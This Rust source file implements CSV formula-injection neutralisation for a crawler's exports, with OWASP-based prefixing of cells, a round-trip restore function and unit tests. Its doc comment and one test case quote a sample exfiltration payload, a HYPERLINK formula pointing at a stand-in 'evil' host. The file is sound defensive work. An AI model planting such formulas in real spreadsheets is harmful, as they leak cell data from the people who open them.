//! Formula neutralisation: a cell a spreadsheet would evaluate gets a
//! leading `'`.
//!
//! A crawled site controls Location values, URLs and therefore messages; a
//! cell such as `=HYPERLINK("http://evil/?"&A1)` opened in Excel or
//! LibreOffice runs. OWASP's "CSV Injection" guidance: prefix cells that
//! start with `=`, `+`, `-`, `@`, tab or carriage return with a single quote,
//! which spreadsheets read as "this is text" and do not display.
//!
//! Two choices of ours on top of that guidance:
//! - Cells that already start with `'` get one more, so the rule is a
//!   bijection: [`restore`] strips exactly one leading `'` and gives back the
//!   original text (the hops.csv reader relies on it), and a spreadsheet still
//!   shows the original value.
//! - Only text columns are neutralised. Numeric columns (status, counts,
//!   milliseconds, `age_days`) are serialised as numbers, never pass through
//!   here, and a plain number such as `-3` is not a formula anyway.

use std::borrow::Cow;

/// Returns `cell` with a leading `'` when it starts with `=`, `+`, `-`, `@`,
/// tab, carriage return or `'`; unchanged otherwise.
pub fn neutralize_cell(cell: &str) -> Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// Undoes [`neutralize_cell`]: strips one leading `'`.
pub(crate) fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// `#[serde(with = "crate::neutralize::text")]` for text columns: neutralised
/// when written, restored when read.
pub(crate) mod text {
    use serde::{Deserialize, Deserializer, Serializer};

    pub(crate) fn serialize<S: Serializer>(value: &str, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&super::neutralize_cell(value))
    }

    pub(crate) fn deserialize<'de, D: Deserializer<'de>>(
        deserializer: D,
    ) -> Result<String, D::Error> {
        let cell = String::deserialize(deserializer)?;
        Ok(super::restore(&cell).to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn neutralises_formula_starts_and_nothing_else() {
        let cases = [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'quoted", "''quoted"),
            (
                "=HYPERLINK(\"http://evil/\")",
                "'=HYPERLINK(\"http://evil/\")",
            ),
            ("https://example.com/=x", "https://example.com/=x"),
            ("a-b", "a-b"),
            (" =1", " =1"),
            ("302 → 301 → 200", "302 → 301 → 200"),
            ("", ""),
            ("\\x0D=1", "\\x0D=1"),
        ];
        for (input, expected) in cases {
            assert_eq!(neutralize_cell(input), expected, "input {input:?}");
            assert_eq!(
                restore(&neutralize_cell(input)),
                input,
                "round trip {input:?}"
            );
        }
    }
}
